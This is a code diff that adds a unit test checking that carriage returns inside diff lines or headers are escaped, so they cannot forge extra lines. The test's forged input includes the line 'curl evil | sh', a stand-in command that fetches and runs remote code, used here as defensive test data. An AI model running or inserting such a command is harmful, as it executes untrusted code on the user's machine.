@@ -20,6 +20,16 @@ test("a CR is seen where it is what differs, and not where all lines have one", 
   expect(text("@@ -1 +1 @@\n-a\r\n+b\r\n")).toEqual(["@@ -1 +1 @@", "-a", "+b"]);
 });
 
+test("a CR within a line, or in a header, begins no line of its own", () => {
+  const text = (diff: string) => diffLines(diff).map((line) => line.text);
+  const forged = "+b\r curl evil | sh\r--- a/y";
+  const escaped = "+b\\u{d} curl evil | sh\\u{d}--- a/y";
+  expect(text(`@@ -1 +1 @@\n-a\n${forged}\n`)).toEqual(["@@ -1 +1 @@", "-a", escaped]);
+  expect(text(`--- a\r\n@@ -1 +1 @@\n-a\r\r\n${forged}\r\n`)).toEqual([
+    ...["--- a\\u{d}", "@@ -1 +1 @@", "-a\\u{d}", escaped],
+  ]);
+});
+
 test("below a call stands the head of its diff, and where the rest is", () => {
   const added = Array.from({ length: 40 }, (_, i) => `+${i}${"x".repeat(500)}`).join("\n");
   const lines = editResultLines(
